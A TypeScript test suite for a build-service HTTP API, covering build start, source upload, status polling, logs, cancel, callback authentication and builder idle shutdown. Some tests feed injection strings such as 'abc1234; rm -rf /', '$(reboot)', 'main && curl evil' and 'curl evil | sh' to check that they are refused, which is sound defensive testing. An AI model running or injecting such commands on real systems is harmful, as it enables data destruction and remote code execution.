import {
  MAX_UPLOAD_BYTES,
  builderResult,
  call,
  cancelRunningBuilds,
  runsUntilStopped,
  startTestCloud,
  SUB,
  timerContext,
  type CallInit,
  type TestCloud,
} from "./support.js";
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { after, afterEach, before, beforeEach, describe, it } from "node:test";
import type { HttpHandler, Timer } from "@azure/functions";
import type {
  BuildStatus,
  ErrorResponse,
  LogsResponse,
  StartBuildResponse,
  BuilderInfo,
} from "../../src/core/api.js";
import { BUILD_ORCHESTRATOR } from "../../src/core/activityContract.js";
import {
  BUILD_EVENTS,
  buildIdSchema,
  builderKey,
  builderVm,
  runCommandName,
  type BuildInput,
} from "../../src/core/buildInput.js";
import { NotFoundError } from "../../src/core/errors.js";
import { idleShutdown } from "../../src/functions/idleShutdown.js";
import { RESULT_LIMITS, type BuildResult } from "../../src/core/buildResult.js";
import { emptyRecord } from "../../src/core/lease.js";
import { loadConfig } from "../../src/config/index.js";
import { buildCallback } from "../../src/functions/buildCallback.js";
import { cancelBuild } from "../../src/functions/cancelBuild.js";
import { setDeps } from "../../src/functions/deps.js";
import { getBuild } from "../../src/functions/getBuild.js";
import { getLogs } from "../../src/functions/getLogs.js";
import { runIdleShutdown } from "../../src/builders/idleShutdown.js";
import { listBuilders } from "../../src/functions/listBuilders.js";
import { TableLeaseStore } from "../../src/azure/tables.js";
import type { Deps } from "../../src/functions/deps.js";
import { sourceUploaded } from "../../src/functions/sourceUploaded.js";
import { startBuild } from "../../src/functions/startBuild.js";
import { startLocalHost, type LocalHost } from "@fast-build/local-cloud/host";
import { startDurableRpcServer } from "@fast-build/local-cloud/host/durableRpc";
import { LocalDurableEngine } from "@fast-build/local-cloud/durable/localEngine";
import { createBuildId } from "../../src/core/buildId.js";
import { buildOrchestrator } from "../../src/orchestration/build.js";
import { waitFor } from "../azure/armHelpers.js";
import { pushImage } from "../azure/registryImages.js";
import { sourceTagOf } from "../../src/orchestration/registryFirst.js";

const SOURCE = Buffer.from("pretend this is a tar.gz of a cargo workspace\n".repeat(10));
const BASE_KEY = "0123456789abcdef".repeat(4);
const DIGEST = `sha256:${createHash("sha256").update(SOURCE).digest("hex")}`;

describe("HTTP API", () => {
  let cloud: TestCloud;

  before(async () => {
    cloud = await startTestCloud();
    setDeps(cloud.deps);
  });
  after(async () => {
    setDeps(undefined);
    await cloud.stop();
  });
  // Every build runs on the real orchestration: the "VM" runs until it is stopped unless a test
  // says otherwise, and whatever a test left running is cancelled through the API afterwards, so
  // the next test finds the builders free (one build per builder; the rest queue).
  beforeEach(() => cloud.arm.setRunCommandExecutor(runsUntilStopped()));
  afterEach(() => cancelRunningBuilds(cloud, cancelBuild));

  const invoke = (handler: HttpHandler, name: string, init: CallInit) => call(cloud.rpc, handler, name, init);
  const post = (body: unknown) =>
    invoke(startBuild, "startBuild", {
      method: "POST",
      path: "builds",
      body: typeof body === "string" ? body : JSON.stringify(body),
    });
  const errorOf = (body: unknown) => (body as ErrorResponse).error;

  async function started(
    request: Record<string, unknown> = {},
  ): Promise<StartBuildResponse & { input: BuildInput }> {
    const res = await post({ environment: "dev", sourceDigest: DIGEST, baseKey: BASE_KEY, ...request });
    assert.equal(res.status, 202, res.text);
    const body = res.body as StartBuildResponse;
    const input = (await cloud.engine.getStatus(body.buildId))?.input as BuildInput;
    return { ...body, input };
  }

  async function upload(url: string, bytes: Buffer): Promise<Response> {
    return fetch(url, { method: "PUT", body: bytes, headers: { "x-ms-blob-type": "BlockBlob" } });
  }

  const sourceComplete = (id: string) =>
    invoke(sourceUploaded, "sourceUploaded", { method: "POST", path: `builds/${id}/source`, params: { id } });
  const cancelRequest = (id: string, body?: string) =>
    invoke(cancelBuild, "cancelBuild", {
      method: "POST",
      path: `builds/${id}/cancel`,
      params: { id },
      ...(body ? { body } : {}),
    });
  const instanceCount = async () => (await cloud.engine.listInstances()).length;

  /** Uploads the archive and reports it, as the CLI does; the build then takes the builder. */
  async function withSource(build: StartBuildResponse): Promise<void> {
    assert.equal((await upload(build.upload!.url, SOURCE)).status, 201);
    const res = await sourceComplete(build.buildId);
    assert.equal(res.status, 202, res.text);
  }

  /** Ends a build the way a user does (cancel) and waits until its orchestration has finished. */
  async function endByCancel(buildId: string): Promise<void> {
    assert.equal((await cancelRequest(buildId)).status, 202);
    assert.equal((await cloud.engine.waitForCompletion(buildId, 60_000)).runtimeStatus, "Completed");
  }

  describe("POST /api/builds", () => {
    it("refuses a request without the base key the upload command computes", async () => {
      const res = await post({ environment: "dev", sourceDigest: DIGEST });
      assert.equal(res.status, 400);
      assert.match(errorOf(res.body).message, /baseKey/);
    });

    it("starts the orchestration at once and answers 202 with a working upload URL", async () => {
      const res = await post({
        environment: "dev",
        sourceDigest: DIGEST,
        baseKey: BASE_KEY,
        branch: "feature/x-1",
        commit: "abc1234",
      });
      assert.equal(res.status, 202, res.text);
      const body = res.body as StartBuildResponse;
      assert.ok(buildIdSchema.safeParse(body.buildId).success, body.buildId);
      assert.equal(body.statusUrl, `/api/builds/${body.buildId}`);
      assert.equal(body.sourceCompleteUrl, `/api/builds/${body.buildId}/source`);
      assert.equal(body.upload!.maxBytes, MAX_UPLOAD_BYTES);

      const instance = await cloud.engine.getStatus(body.buildId);
      assert.equal(instance?.name, BUILD_ORCHESTRATOR);
      assert.equal(instance?.runtimeStatus, "Running");
      const input = instance?.input as BuildInput;
      assert.equal(input.environment, "dev");
      assert.equal(input.sourceDigest, DIGEST);
      assert.equal(input.branch, "feature/x-1");
      assert.equal(input.deploy, true);
      assert.match(input.callbackToken, /^[A-Za-z0-9_-]{43}$/);

      assert.equal((await upload(body.upload!.url, SOURCE)).status, 201);
      // Write-only: the upload grant cannot read the blob back.
      assert.equal((await fetch(body.upload!.url)).status, 403);

      // Logs name the build and never carry the SAS signature or the callback token.
      assert.ok(res.logs.length > 0);
      for (const line of res.logs) {
        assert.ok(line.includes(`[build ${body.buildId}]`), line);
        assert.ok(!line.includes(input.callbackToken), line);
        assert.ok(!/sig=/.test(line), line);
      }
      assert.ok(!res.text.includes(input.callbackToken), "the token is not handed to the client");
    });

    it("gives every build its own id and callback token", async () => {
      const [a, b] = await Promise.all([started(), started()]);
      assert.notEqual(a.buildId, b.buildId);
      assert.notEqual(a.input.callbackToken, b.input.callbackToken);
    });

    it("refuses an unknown environment, naming the known ones, and starts nothing", async () => {
      const before = await instanceCount();
      const res = await post({ environment: "staging", sourceDigest: DIGEST, baseKey: BASE_KEY });
      assert.equal(res.status, 400);
      assert.equal(errorOf(res.body).code, "UnknownEnvironment");
      assert.match(errorOf(res.body).message, /"staging"/);
      assert.match(errorOf(res.body).hint ?? "", /dev, prod/);
      assert.equal(await instanceCount(), before);
    });

    it("refuses malformed JSON", async () => {
      const res = await post('{"environment": "dev", ');
      assert.equal(res.status, 400);
      assert.equal(errorOf(res.body).code, "MalformedJson");
    });

    it("refuses an empty body", async () => {
      const res = await invoke(startBuild, "startBuild", { method: "POST", path: "builds" });
      assert.equal(res.status, 400);
      assert.equal(errorOf(res.body).code, "MissingBody");
    });

    it("refuses a body over 16 KB with 413", async () => {
      const res = await post({
        environment: "dev",
        sourceDigest: DIGEST,
        baseKey: BASE_KEY,
        padding: "x".repeat(17 * 1024),
      });
      assert.equal(res.status, 413);
      assert.equal(errorOf(res.body).code, "RequestTooLarge");
    });

    for (const [field, value] of [
      ["commit", "abc1234; rm -rf /"],
      ["commit", "abc1234\n"],
      ["branch", "main\nrm -rf /"],
      ["branch", "$(reboot)"],
      ["branch", "main && curl evil"],
      ["branch", "`id`"],
    ] as const) {
      it(`refuses a ${field} with shell metacharacters or newlines: ${JSON.stringify(value)}`, async () => {
        const before = await instanceCount();
        const res = await post({
          environment: "dev",
          sourceDigest: DIGEST,
          baseKey: BASE_KEY,
          [field]: value,
        });
        assert.equal(res.status, 400);
        assert.equal(errorOf(res.body).code, "InvalidRequest");
        assert.match(errorOf(res.body).message, new RegExp(`${field}:`));
        assert.equal(await instanceCount(), before);
      });
    }

    it("refuses a malformed source digest, saying what it must look like", async () => {
      const res = await post({ environment: "dev", sourceDigest: "md5:1234" });
      assert.equal(res.status, 400);
      assert.match(errorOf(res.body).message, /sourceDigest: must be sha256:<64 lower-case hex digits>/);
    });

    it("refuses unknown fields", async () => {
      const res = await post({
        environment: "dev",
        sourceDigest: DIGEST,
        baseKey: BASE_KEY,
        script: "curl evil | sh",
      });
      assert.equal(res.status, 400);
      assert.match(errorOf(res.body).message, /script/);
    });

    it("refuses an announced archive over the upload limit with 413", async () => {
      const res = await post({
        environment: "dev",
        sourceDigest: DIGEST,
        baseKey: BASE_KEY,
        sourceBytes: MAX_UPLOAD_BYTES + 1,
      });
      assert.equal(res.status, 413);
      assert.equal(errorOf(res.body).code, "SourceTooLarge");
    });
  });

  describe("POST /api/builds/{id}/source", () => {
    const complete = sourceComplete;

    it("raises SourceUploaded once the archive is there and matches the digest", async () => {
      const build = await started();
      await upload(build.upload!.url, SOURCE);
      const before = Date.now();
      const res = await complete(build.buildId);
      assert.equal(res.status, 202, res.text);
      const events = cloud.engine.events.filter((e) => e.instanceId === build.buildId);
      const reportedAt = (events[0]?.data as { reportedAt?: string } | undefined)?.reportedAt ?? "";
      // When the API saw it: an upload reported by the source deadline counts (orchestration/source.ts).
      assert.ok(Date.parse(reportedAt) >= before - 1 && Date.parse(reportedAt) <= Date.now(), reportedAt);
      assert.deepEqual(events, [
        {
          instanceId: build.buildId,
          name: BUILD_EVENTS.sourceUploaded,
          data: { size: SOURCE.length, reportedAt },
        },
      ]);
    });

    it("says to upload first when no archive is there", async () => {
      const build = await started();
      const res = await complete(build.buildId);
      assert.equal(res.status, 400);
      assert.equal(errorOf(res.body).code, "SourceNotUploaded");
      assert.match(errorOf(res.body).hint ?? "", /upload URL/);
    });

    it("refuses an archive whose digest differs from the one announced, and raises nothing", async () => {
      const build = await started();
      await upload(build.upload!.url, Buffer.from("something else"));
      const res = await complete(build.buildId);
      assert.equal(res.status, 400);
      assert.equal(errorOf(res.body).code, "SourceDigestMismatch");
      assert.match(errorOf(res.body).hint ?? "", /Upload exactly the archive/);
      assert.equal(cloud.engine.events.filter((e) => e.instanceId === build.buildId).length, 0);
    });

    it("refuses an archive over the size limit with 413", async () => {
      const big = Buffer.alloc(MAX_UPLOAD_BYTES + 1, 1);
      const build = await started({
        sourceDigest: `sha256:${createHash("sha256").update(big).digest("hex")}`,
      });
      await upload(build.upload!.url, big);
      const res = await complete(build.buildId);
      assert.equal(res.status, 413);
      assert.equal(errorOf(res.body).code, "SourceTooLarge");
    });

    it("answers 409 when the source was already received or the build has ended", async () => {
      const build = await started();
      await withSource(build);
      // The orchestration takes the source and goes on to the build, which runs until stopped.
      await cloud.published(build.buildId, (s) =>
        s.steps.some((step) => step.name === "source" && step.state === "succeeded"),
      );
      const again = await complete(build.buildId);
      assert.equal(again.status, 409);
      assert.equal(errorOf(again.body).code, "SourceAlreadyReceived");

      await endByCancel(build.buildId);
      const afterEnd = await complete(build.buildId);
      assert.equal(afterEnd.status, 409);
      assert.equal(errorOf(afterEnd.body).code, "BuildEnded");
    });

    it("answers 200 needed:false when the registry already has the image for the source (version 5)", async () => {
      // A digest of its own: no other test's build may find (or miss) this image.
      const digest = `sha256:${createHash("sha256").update("registry-first upload test").digest("hex")}`;
      await pushImage(cloud.registry.url, "apps/demo", sourceTagOf(digest), "registry-first");
      const build = await started({ sourceDigest: digest, options: { deploy: false } });
      await cloud.published(build.buildId, (s) => s.registryCheck?.sourceImage === "present");
      // The CLI's upload was under way: its report is answered, not refused, and raises nothing.
      await upload(build.upload!.url, SOURCE);
      const res = await complete(build.buildId);
      assert.equal(res.status, 200, res.text);
      assert.deepEqual(res.body, {
        buildId: build.buildId,
        needed: false,
        statusUrl: `/api/builds/${build.buildId}`,
      });
      assert.equal(cloud.engine.events.filter((e) => e.instanceId === build.buildId).length, 0);
      assert.ok((build.input.orchestratorVersion ?? 1) >= 5, "registry-first from version 5 on");
    });

    it("answers 404 for an unknown build and 400 for something that is not a build id", async () => {
      const unknown = await complete("20200101000000-0000000000");
      assert.equal(unknown.status, 404);
      assert.equal(errorOf(unknown.body).code, "BuildNotFound");
      const bad = await complete("../../etc");
      assert.equal(bad.status, 400);
      assert.equal(errorOf(bad.body).code, "InvalidBuildId");
    });
  });

  describe("GET /api/builds/{id}", () => {
    const status = (id: string) =>
      invoke(getBuild, "getBuild", { method: "GET", path: `builds/${id}`, params: { id } });

    it("shows the status the orchestration published", async () => {
      const build = await started();
      await withSource(build);
      // The build command runs until stopped: the orchestration waits for its result, status still.
      const published = await cloud.published(
        build.buildId,
        (s) =>
          s.phase === "building" && s.steps.some((step) => step.name === "build" && step.state === "running"),
      );
      assert.equal(published.builder.name, "builder-dev");
      // The same instant: the host writes dates in a custom status back in Json.NET's format
      // (".040Z" becomes ".04Z"; the local driver does the same, hostRules.ts).
      assert.equal(Date.parse(published.timings.createdAt), Date.parse(build.input.createdAt));
      const res = await status(build.buildId);
      assert.equal(res.status, 200);
      assert.deepEqual(res.body, published);
    });

    it("reports a crashed orchestration as failed with a hint", async () => {
      cloud.crashNextBuild();
      const build = await started();
      assert.equal((await cloud.engine.waitForCompletion(build.buildId, 60_000)).runtimeStatus, "Failed");
      const body = (await status(build.buildId)).body as BuildStatus;
      assert.equal(body.phase, "failed");
      assert.equal(body.terminal, true);
      assert.ok(body.error?.hint);
    });

    it("shows a queued build while the host has not picked the instance up (Pending, no custom status yet)", async () => {
      // The Durable host runs a new instance's first episode when it dequeues its start message;
      // until then its status is Pending with no custom status (the local engine's pickupDelayMs).
      const engine = new LocalDurableEngine({
        orchestrators: new Map([[BUILD_ORCHESTRATOR, buildOrchestrator]]),
        activities: new Map(),
        clock: { kind: "real" },
        pickupDelayMs: 2_000,
      });
      const rpc = await startDurableRpcServer(() => engine, { taskHubName: "fastbuild" });
      try {
        const { input } = await started();
        const buildId = createBuildId();
        await engine.startNew(BUILD_ORCHESTRATOR, buildId, { ...input, buildId });
        assert.equal((await engine.getStatus(buildId))?.runtimeStatus, "Pending");
        const res = await call(rpc, getBuild, "getBuild", {
          method: "GET",
          path: `builds/${buildId}`,
          params: { id: buildId },
        });
        assert.equal(res.status, 200, res.text);
        const shown = res.body as BuildStatus;
        assert.equal(shown.buildId, buildId);
        assert.equal(shown.environment, "dev");
        assert.equal(shown.phase, "queued");
        assert.equal(shown.terminal, false);
        assert.equal(shown.error, undefined);
      } finally {
        await engine.stop();
        await rpc.stop();
      }
    });

    it("answers 404 for an unknown build", async () => {
      assert.equal((await status("20200101000000-aaaaaaaaaa")).status, 404);
    });

    const watch = (id: string, query: string, headers: Record<string, string> = {}) =>
      invoke(getBuild, "getBuild", { method: "GET", path: `builds/${id}${query}`, params: { id }, headers });
    /** A build waiting for its source: its status stays as it is until the upload is reported. */
    async function waitingForSource(): Promise<StartBuildResponse & { etag: string }> {
      const build = await started();
      await cloud.published(build.buildId, (s) => s.phase === "waiting-for-source");
      const res = await status(build.buildId);
      const etag = res.headers.get("etag");
      assert.ok(etag, "the status has an ETag");
      return { ...build, etag };
    }

    it("gives the status an ETag and answers 304 to a conditional GET while it is unchanged", async () => {
      const build = await waitingForSource();
      assert.match(build.etag, /^"[A-Za-z0-9_-]+"$/);
      assert.equal((await status(build.buildId)).headers.get("etag"), build.etag);
      for (const res of [
        await watch(build.buildId, `?etag=${encodeURIComponent(build.etag)}`),
        await watch(build.buildId, "", { "if-none-match": build.etag }),
        await watch(build.buildId, "", { "if-none-match": `"other", W/${build.etag}` }),
      ]) {
        assert.equal(res.status, 304, res.text);
        assert.equal(res.text, "");
        assert.equal(res.headers.get("etag"), build.etag);
      }
      // Another ETag (or none) gets the status.
      assert.equal((await watch(build.buildId, '?etag="stale"')).status, 200);
    });

    it("answers a long poll as soon as the status changes, with the new status and its ETag", async () => {
      const build = await waitingForSource();
      const waiting = watch(build.buildId, `?waitForChangeMs=25000&etag=${encodeURIComponent(build.etag)}`);
      await withSource(build);
      const res = await waiting;
      assert.equal(res.status, 200, res.text);
      assert.notEqual(res.headers.get("etag"), build.etag);
      assert.notEqual((res.body as BuildStatus).phase, "waiting-for-source");
      assert.equal(res.headers.get("etag"), (await status(build.buildId)).headers.get("etag"));
    });

    it("answers a long poll 304 when nothing changed in the wait, and at once for an ended build", async () => {
      const build = await waitingForSource();
      const unchanged = await watch(build.buildId, "?waitForChangeMs=400", { "if-none-match": build.etag });
      assert.equal(unchanged.status, 304, unchanged.text);
      await endByCancel(build.buildId);
      const ended = await status(build.buildId);
      const etag = ended.headers.get("etag") ?? "";
      // It will not change again: a 25 s wait answers at once (the test would otherwise time out).
      const res = await watch(build.buildId, `?waitForChangeMs=25000&etag=${encodeURIComponent(etag)}`);
      assert.equal(res.status, 304);
    });

    it("refuses a wait that is not a whole number of ms up to 25000, or that has no ETag to compare", async () => {
      const build = await waitingForSource();
      for (const wait of ["-1", "abc", "1.5", "25001", "1e4"]) {
        const res = await watch(
          build.buildId,
          `?waitForChangeMs=${wait}&etag=${encodeURIComponent(build.etag)}`,
        );
        assert.equal(res.status, 400, wait);
        assert.equal(errorOf(res.body).code, "InvalidQuery");
        assert.match(errorOf(res.body).message, /waitForChangeMs must be a whole number from 0 to 25000/);
      }
      const res = await watch(build.buildId, "?waitForChangeMs=1000");
      assert.equal(res.status, 400);
      assert.match(errorOf(res.body).message, /needs the ETag/);
      assert.match(errorOf(res.body).hint ?? "", /If-None-Match/);
    });
  });

  describe("GET /api/builds/{id}/logs", () => {
    const logs = (id: string, query = "") =>
      invoke(getLogs, "getLogs", { method: "GET", path: `builds/${id}/logs${query}`, params: { id } });

    it("follows the log from an offset, empty before the builder wrote anything", async () => {
      const build = await started();
      assert.deepEqual((await logs(build.buildId)).body, {
        text: "",
        nextOffset: 0,
        size: 0,
        complete: false,
      });

      // The builder's output goes to the log blob as Run Command appends it.
      cloud.arm.setRunCommandExecutor(runsUntilStopped("step 1\nstep 2\n"));
      await withSource(build);
      await waitFor(
        async () => (await logs(build.buildId, "?offset=0")).body as LogsResponse,
        (chunk) => chunk.size >= 14,
      );
      const first = (await logs(build.buildId, "?offset=0")).body as LogsResponse;
      assert.deepEqual(first, { text: "step 1\nstep 2\n", nextOffset: 14, size: 14, complete: false });
      const rest = (await logs(build.buildId, "?offset=7")).body as LogsResponse;
      assert.equal(rest.text, "step 2\n");

      await endByCancel(build.buildId);
      assert.equal(((await logs(build.buildId, "?offset=14")).body as LogsResponse).complete, true);
    });

    it("refuses an offset that is not a whole number", async () => {
      const build = await started();
      for (const query of ["?offset=-1", "?offset=abc", "?offset=1.5", "?maxBytes=0"]) {
        const res = await logs(build.buildId, query);
        assert.equal(res.status, 400, query);
        assert.equal(errorOf(res.body).code, "InvalidQuery");
      }
    });
  });

  describe("POST /api/builds/{id}/cancel", () => {
    const cancel = cancelRequest;

    it("raises CancelRequested for a running build", async () => {
      const build = await started();
      const res = await cancel(build.buildId, JSON.stringify({ reason: "wrong branch" }));
      assert.equal(res.status, 202);
      assert.deepEqual(
        cloud.engine.events.filter((e) => e.instanceId === build.buildId),
        [{ instanceId: build.buildId, name: BUILD_EVENTS.cancelRequested, data: { reason: "wrong branch" } }],
      );
    });

    it("answers 409 for an ended build and 404 for an unknown one", async () => {
      const build = await started();
      await endByCancel(build.buildId);
      assert.equal((await cancel(build.buildId)).status, 409);
      assert.equal((await cancel("20200101000000-bbbbbbbbbb")).status, 404);
    });
  });

  describe("POST /api/builds/{id}/callback", () => {
    const result = (buildId: string): BuildResult =>
      builderResult(buildId, {
        image: "127.0.0.1:5000/apps/demo:abc",
        timings: { download: 120, app: 3000 },
      });
    const callback = (id: string, token: string | undefined, body: string) =>
      invoke(buildCallback, "buildCallback", {
        method: "POST",
        path: `builds/${id}/callback`,
        params: { id },
        body,
        headers: token === undefined ? {} : { "x-fastbuild-token": token },
      });

    it("raises BuildCompleted when the builder presents its build's token", async () => {
      const build = await started();
      const res = await callback(
        build.buildId,
        build.input.callbackToken,
        JSON.stringify(result(build.buildId)),
      );
      assert.equal(res.status, 202, res.text);
      const events = cloud.engine.events.filter((e) => e.instanceId === build.buildId);
      assert.equal(events.length, 1);
      assert.equal(events[0]?.name, BUILD_EVENTS.buildCompleted);
      assert.deepEqual(events[0]?.data, result(build.buildId));
      for (const line of res.logs) assert.ok(!line.includes(build.input.callbackToken), line);
    });

    it("answers 401 and raises nothing for a missing or wrong token (even another build's)", async () => {
      const [build, other] = await Promise.all([started(), started()]);
      const body = JSON.stringify(result(build.buildId));
      for (const token of [
        undefined,
        "",
        "not-the-token",
        other.input.callbackToken,
        `${build.input.callbackToken}x`,
      ]) {
        const res = await callback(build.buildId, token, body);
        assert.equal(res.status, 401, String(token));
        assert.equal(errorOf(res.body).code, "InvalidCallbackToken");
      }
      assert.equal(cloud.engine.events.filter((e) => e.instanceId === build.buildId).length, 0);
    });

    it("refuses a result that is not a valid result line, or is for another build", async () => {
      const build = await started();
      const token = build.input.callbackToken;
      assert.equal((await callback(build.buildId, token, "{not json")).status, 400);
      assert.equal(
        (await callback(build.buildId, token, JSON.stringify({ status: "succeeded" }))).status,
        400,
      );
      const other = await callback(build.buildId, token, JSON.stringify(result("20200101000000-cccccccccc")));
      assert.equal(other.status, 400);
      assert.equal(errorOf(other.body).code, "BuildIdMismatch");
      assert.equal(cloud.engine.events.filter((e) => e.instanceId === build.buildId).length, 0);
    });

    it("cuts a result's over-long message and log lines before raising it", async () => {
      const build = await started();
      const body = JSON.stringify({
        ...result(build.buildId),
        message: "m".repeat(40_000),
        logTail: Array.from({ length: 40 }, (_, i) => `${i} ${"x".repeat(500)}`),
      });
      const res = await callback(build.buildId, build.input.callbackToken, body);
      assert.equal(res.status, 202, res.text);
      const data = cloud.engine.events.find((e) => e.instanceId === build.buildId)?.data as BuildResult;
      assert.equal(data.message, `${"m".repeat(RESULT_LIMITS.messageChars)}…`);
      assert.equal(data.logTail?.length, RESULT_LIMITS.logTailLines);
      assert.ok(data.logTail?.[0]?.startsWith("20 "), "the last lines are kept");
      assert.ok(data.logTail?.every((line) => line.length === RESULT_LIMITS.logLineChars + 1));
    });

    for (const [what, extra, problem] of [
      [
        "1,000 step timings",
        { timings: Object.fromEntries(Array.from({ length: 1_000 }, (_, i) => [`s${i}`, i])) },
        /more than 32 step timings/,
      ],
      [
        "an image reference of 600 characters",
        { image: `r.example.test/${"a".repeat(585)}` },
        /image reference longer/,
      ],
    ] as const) {
      it(`refuses a result with ${what}, saying so, and raises nothing`, async () => {
        const build = await started();
        const body = JSON.stringify({ ...result(build.buildId), ...extra });
        const res = await callback(build.buildId, build.input.callbackToken, body);
        assert.equal(res.status, 400, res.text);
        assert.match(errorOf(res.body).message, problem);
        assert.equal(cloud.engine.events.filter((e) => e.instanceId === build.buildId).length, 0);
      });
    }

    it("acknowledges the script's heartbeats without raising anything, and records them for the idle shutdown", async () => {
      const build = await started();
      const beat = JSON.stringify({
        fastbuild: "heartbeat",
        version: 1,
        buildId: build.buildId,
        step: "app",
        elapsedMs: 30_000,
      });
      const env = cloud.deps.config.environments[build.input.environment]!;
      const key = builderKey(builderVm(env));
      const before = await cloud.deps.leases.readHeartbeat(key);
      assert.equal((await callback(build.buildId, "wrong-token", beat)).status, 401);
      assert.deepEqual(
        await cloud.deps.leases.readHeartbeat(key),
        before,
        "a refused heartbeat is not recorded",
      );
      assert.equal((await callback(build.buildId, build.input.callbackToken, beat)).status, 202);
      assert.equal(cloud.engine.events.filter((e) => e.instanceId === build.buildId).length, 0);
      assert.equal((await cloud.deps.leases.readHeartbeat(key))?.buildId, build.buildId);
    });

    it("answers an unknown build exactly as a known one with a wrong token (no existence oracle)", async () => {
      const build = await started();
      const unknown = "20200101000000-dddddddddd";
      const wrong = await callback(build.buildId, "whatever-token", JSON.stringify(result(build.buildId)));
      const missing = await callback(unknown, "whatever-token", JSON.stringify(result(unknown)));
      assert.equal(missing.status, 401);
      assert.equal(missing.status, wrong.status);
      assert.deepEqual(missing.body, wrong.body);
    });
  });

  describe("through the local host over HTTP", () => {
    const KEY = "flow-test-function-key";
    let host: LocalHost;

    before(async () => {
      host = await startLocalHost({
        entry: new URL("../../src/functions/index.ts", import.meta.url).href,
        engine: cloud.engine,
        functionKey: KEY,
        log: () => undefined,
      });
    });
    after(() => host.stop());

    const api = (path: string, init: RequestInit = {}, key: string | null = KEY) =>
      fetch(`${host.url}/api/${path}`, {
        ...init,
        headers: {
          "content-type": "application/json",
          ...(key ? { "x-functions-key": key } : {}),
          ...(init.headers as Record<string, string>),
        },
      });

    it("runs start → upload → source → status → callback → logs as a client and the builder would", async () => {
      assert.equal((await api("builds", { method: "POST", body: "{}" }, null)).status, 401);

      const start = await api("builds", {
        method: "POST",
        body: JSON.stringify({ environment: "prod", sourceDigest: DIGEST, baseKey: BASE_KEY }),
      });
      assert.equal(start.status, 202);
      const build = (await start.json()) as StartBuildResponse;
      assert.equal((await upload(build.upload!.url, SOURCE)).status, 201);
      assert.equal((await api(`builds/${build.buildId}/source`, { method: "POST" })).status, 202);

      const status = await api(`builds/${build.buildId}`);
      assert.equal(status.status, 200);
      assert.equal(((await status.json()) as BuildStatus).environment, "prod");

      // The builder has no function key: only its build's token.
      const token = ((await cloud.engine.getStatus(build.buildId))?.input as BuildInput).callbackToken;
      const line = JSON.stringify(
        builderResult(build.buildId, { status: "failed", exitReason: "app-build", exitCode: 21 }),
      );
      assert.equal(
        (await api(`builds/${build.buildId}/callback`, { method: "POST", body: line }, null)).status,
        401,
      );
      const accepted = await api(
        `builds/${build.buildId}/callback`,
        { method: "POST", body: line, headers: { "x-fastbuild-token": token } },
        null,
      );
      assert.equal(accepted.status, 202);
      assert.deepEqual(
        cloud.engine.events.filter((e) => e.instanceId === build.buildId).map((e) => e.name),
        [BUILD_EVENTS.sourceUploaded, BUILD_EVENTS.buildCompleted],
      );

      const logs = await api(`builds/${build.buildId}/logs?offset=0`);
      assert.equal(logs.status, 200);
      assert.equal(((await logs.json()) as LogsResponse).size, 0);
    });

    it("answers an oversized request body with 413", async () => {
      const res = await api("builds", {
        method: "POST",
        body: JSON.stringify({ environment: "dev", padding: "x".repeat(20_000) }),
      });
      assert.equal(res.status, 413);
      assert.equal(errorOf(await res.json()).code, "RequestTooLarge");
    });
  });

  describe("unexpected failures", () => {
    beforeEach(() => setDeps(cloud.deps));
    after(() => setDeps(cloud.deps));

    it("answer a generic 500 with a correlation id and no internal detail", async () => {
      // A broken app setting: the composition root fails with the real configuration error.
      setDeps(() => ({
        ...cloud.deps,
        config: loadConfig({ FASTBUILD_ENVIRONMENTS: "{oops", AzureWebJobsStorage: "AccountKey=c2VjcmV0" }),
      }));
      const res = await post({ environment: "dev", sourceDigest: DIGEST, baseKey: BASE_KEY });
      assert.equal(res.status, 500);
      const error = errorOf(res.body);
      assert.equal(error.code, "InternalError");
      assert.ok(error.correlationId);
      assert.doesNotMatch(res.text, /FASTBUILD_ENVIRONMENTS|AccountKey|stack|at /);
      assert.ok(
        res.logs.some((line) => line.includes(error.correlationId!) && /FASTBUILD_ENVIRONMENTS/.test(line)),
      );
      assert.ok(res.logs.every((line) => !line.includes("c2VjcmV0")));
    });
  });

  describe("builders", () => {
    const dev = {
      subscriptionId: "00000000-0000-0000-0000-00000000abcd",
      resourceGroup: "rg-builds",
      vmName: "builder-dev",
    };
    const prod = { ...dev, vmName: "builder-prod" };
    const old = new Date(Date.now() - 3 * 3600_000).toISOString();
    // The builds above took, released and recorded activity on these builders' records; these
    // tests start from records they write themselves, in a builder table of their own.
    let fleet: Deps;

    before(() => {
      fleet = {
        ...cloud.deps,
        leases: new TableLeaseStore({
          tableName: "fleetbuilders",
          connectionString: cloud.azurite.connectionString,
        }),
      };
      setDeps(fleet);
      cloud.arm.addVm(dev, { powerState: "running" });
      cloud.arm.addVm(prod, { powerState: "running" });
    });
    after(() => setDeps(cloud.deps));

    it("GET /api/builders shows power state, lease holder, queue and idle shutdown time", async () => {
      const expires = new Date(Date.now() + 600_000).toISOString();
      await fleet.leases.write(
        {
          ...emptyRecord(builderKey(dev)),
          holder: "20260101000000-aaaaaaaaaa",
          generation: 1,
          leaseExpiresAt: expires,
          acquiredAt: old,
          lastActivityAt: old,
          queue: [{ buildId: "20260101000001-bbbbbbbbbb", since: old, seenAt: new Date().toISOString() }],
        },
        undefined,
      );
      await fleet.leases.write({ ...emptyRecord(builderKey(prod)), lastActivityAt: old }, undefined);

      const res = await invoke(listBuilders, "listBuilders", { method: "GET", path: "builders" });
      assert.equal(res.status, 200, res.text);
      const infos = res.body as BuilderInfo[];
      const devInfo = infos.find((info) => info.environment === "dev");
      const prodInfo = infos.find((info) => info.environment === "prod");
      assert.deepEqual(devInfo, {
        name: "builder-dev",
        environment: "dev",
        powerState: "running",
        leaseHolder: "20260101000000-aaaaaaaaaa",
        leaseExpiresAt: expires,
        queue: ["20260101000001-bbbbbbbbbb"],
        lastActivityAt: old,
      });
      assert.equal(prodInfo?.powerState, "running");
      assert.equal(prodInfo?.idleShutdownAt, new Date(Date.parse(old) + 30 * 60_000).toISOString());
    });

    it("the idle timer deallocates an idle builder, never one whose lease is fresh, and gives the lease back", async () => {
      const logs: string[] = [];
      // The dev builder's holder is a live build (as far as the timer can tell).
      const outcomes = await runIdleShutdown(fleet, timerContext("idleShutdown", logs), () =>
        Promise.resolve("Running"),
      );
      assert.deepEqual(outcomes.map((o) => [o.builder, o.action]).sort(), [
        ["builder-dev", "kept"],
        ["builder-prod", "deallocated"],
      ]);
      assert.equal(cloud.arm.getVm(dev)?.powerState, "running");
      assert.equal(cloud.arm.getVm(prod)?.powerState, "deallocated");
      const record = (await fleet.leases.read(builderKey(prod)))?.record;
      assert.equal(record?.holder, undefined);
